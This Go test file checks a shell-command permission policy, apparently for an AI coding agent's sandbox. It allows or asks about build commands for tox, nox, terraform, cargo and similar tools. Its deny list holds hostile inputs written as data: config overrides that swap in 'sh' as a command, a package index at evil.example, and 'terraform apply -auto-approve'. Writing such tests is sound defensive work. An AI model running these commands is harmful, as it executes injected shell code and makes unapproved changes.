package policy

import "testing"

// TestBuildVerbsOfMoreEcosystems: session runners, Haskell, Terraform and
// the verbs added by class (read, manifest, run) are judged by their verb
// class: build and read verbs in both modes, manifest and run verbs inside
// the sandbox only; options that name configuration, sources or paths
// elsewhere never pass.
func TestBuildVerbsOfMoreEcosystems(t *testing.T) {
	ctx := testEnv(t)
	e := Default()
	on, off := ctx, ctx
	on.Sandboxed = true
	for _, c := range []struct {
		cmd     string
		on, off Decision
	}{
		{"tox", Allow, Ask},
		{"tox -e py311", Allow, Ask},
		{"tox -p auto -- -k parser", Allow, Ask},
		{"nox -s tests-3.11", Allow, Ask},
		{"nox", Allow, Ask},
		{"stack build --system-ghc --test", Allow, Allow},
		{"cabal build --enable-tests && cabal test", Allow, Allow},
		{"terraform fmt -check -diff -recursive", Allow, Allow},
		{"terraform validate -no-color", Allow, Allow}, // off24: offlocal_tools.go
		{"terraform init -backend=false", Allow, Ask},
		// session 5: init's writes stay in .terraform inside the sandbox and
		// the backend's credentials are out of its reach
		{"terraform init", Allow, Ask},
		{"terraform init -upgrade -input=false", Allow, Ask},
		{"tflint --init && tflint", Allow, Ask},
		{"mix hex.audit", Allow, Allow}, // asks hex.pm, the person's own: allowed off (registryquery_off.go)
		{"composer update --no-interaction --prefer-dist", Allow, Ask},
		{"composer exec --verbose phpunit tests", Allow, Allow},
		{"mvn -B verify --file pom.xml", Allow, Allow},
		{"cargo +nightly fmt --all -- --check", Allow, Ask},
		{"gcc -O -Wall -W -pedantic -ansi -std=c99 -o test hello.c", Allow, Allow},
	} {
		for _, m := range []struct {
			cx   Context
			want Decision
		}{{on, c.on}, {off, c.off}} {
			if v := e.Check(Query{Kind: KindShell, Command: c.cmd, Context: m.cx}); v.Decision != m.want {
				t.Errorf("%q (sandbox %v): %s by %s (%s), want %s", c.cmd, m.cx.Sandboxed, v.Decision, v.Rule, v.Reason, m.want)
			}
		}
	}
	for _, l := range []string{
		"tox -c ../other/tox.ini",
		"tox -x testenv.commands=sh",
		"tox --override=testenv.commands=sh",
		"nox --noxfile=other.py",
		"tox --installpkg /tmp/x.whl",
		"tox -i https://evil.example/simple",
		"nox -f /tmp/noxfile.py",
		"nox --noxfile ../x.py",
		"tox -e $ENV",
		"terraform init -backend-config=prod.hcl",
		"terraform init -migrate-state",
		"terraform apply -auto-approve",
		"terraform init -backend=false -plugin-dir=/tmp/p",
		"mvn -B verify --file ../other/pom.xml",
		"cargo +/tmp/toolchain build",
		"cargo +nightly --config 'target.x.runner=\"sh\"' build",
		"composer update --working-dir=../x",
	} {
		for _, cx := range []Context{on, off} {
			if v := e.Check(Query{Kind: KindShell, Command: l, Context: cx}); v.Decision == Allow {
				t.Errorf("sandbox %v: %q ALLOWED by %s (%s)", cx.Sandboxed, l, v.Rule, v.Reason)
			}
		}
	}
}
